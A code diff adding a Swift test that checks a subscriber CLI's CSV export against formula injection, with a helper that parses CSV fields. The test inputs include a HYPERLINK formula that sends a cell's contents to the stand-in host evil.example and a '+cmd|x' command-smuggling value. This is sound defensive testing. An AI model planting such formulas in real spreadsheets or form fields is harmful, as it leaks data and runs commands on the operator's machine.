@@ -94,6 +94,54 @@ struct SubscribersCommandTests {
         #expect(badAddress.status == 1 && badAddress.stderr == "error: The address 'not an address' has no '@'.\n")
     }
 
+    /// OWASP "CSV Injection": names a stranger typed into the public form must not become
+    /// live formulas in the operator's spreadsheet, and an export imports back unchanged.
+    @Test func exportNeutralisesFormulasAndImportReadsThemBack() throws {
+        let dir = try tempDir()
+        let names = ["=HYPERLINK(\"https://evil.example/?leak=\"&A2,\"Open\")", "=1+2", "@SUM(A1:A2)", "+cmd|x", "-2+3", "'=already quoted", "'plain quote", "Ana"]
+        for (i, name) in names.enumerated() {
+            let r = try CLIRunner.run(["subscribers", "add", "p\(i)@example.com", "--name=\(name)", "--confirmed"], in: dir)
+            #expect(r.status == 0, "\(r.stderr)")
+        }
+        let export = try CLIRunner.run(["subscribers", "export", "--format", "csv"], in: dir).stdout
+        let lines = export.components(separatedBy: "\n").dropFirst().filter { !$0.isEmpty }
+        #expect(lines.first?.hasPrefix("p0@example.com,\"'=HYPERLINK(\"\"https://evil.example/?leak=\"\"&A2,\"\"Open\"\")\",confirmed,") == true, "\(export)")
+        let rows = lines.map(Self.csvFields)
+        #expect(rows.map { $0[1] } == names.map { $0 == "'plain quote" || $0 == "Ana" ? $0 : "'" + $0 })
+        // Nothing a spreadsheet would evaluate begins any cell.
+        for cell in rows.joined() {
+            #expect(!["=", "+", "-", "@", "\t", "\r"].contains(where: { cell.hasPrefix($0) }), "\(cell)")
+        }
+        // Imported into a new store, every name reads as it was typed.
+        let other = try tempDir()
+        try Data(export.utf8).write(to: other.appendingPathComponent("export.csv"))
+        let imported = try CLIRunner.run(["subscribers", "import", "export.csv", "--confirmed"], in: other)
+        #expect(imported.status == 0, "\(imported.stderr)")
+        let list = try CLIRunner.run(["subscribers", "list", "--json"], in: other)
+        let people = try #require(try JSONSerialization.jsonObject(with: Data(list.stdout.utf8)) as? [[String: Any]])
+        #expect(Set(people.compactMap { $0["name"] as? String }) == Set(names))
+    }
+
+    /// One CSV line's fields (RFC 4180, no line breaks inside): quotes taken off.
+    static func csvFields(_ line: String) -> [String] {
+        var fields: [String] = [], field = "", quoted = false, previous: Character? = nil
+        for c in line {
+            if quoted {
+                if c == "\"" { quoted = false } else { field.append(c) }
+            } else if c == "\"" {
+                if previous == "\"" { field.append("\"") }
+                quoted = true
+            } else if c == "," {
+                fields.append(field); field = ""
+            } else {
+                field.append(c)
+            }
+            previous = c
+        }
+        fields.append(field)
+        return fields
+    }
+
     @Test func twoProcessesAddingAndConfirmingAtOnceLoseNothing() throws {
         let dir = try tempDir()
         _ = try CLIRunner.run(["subscribers", "list"], in: dir)
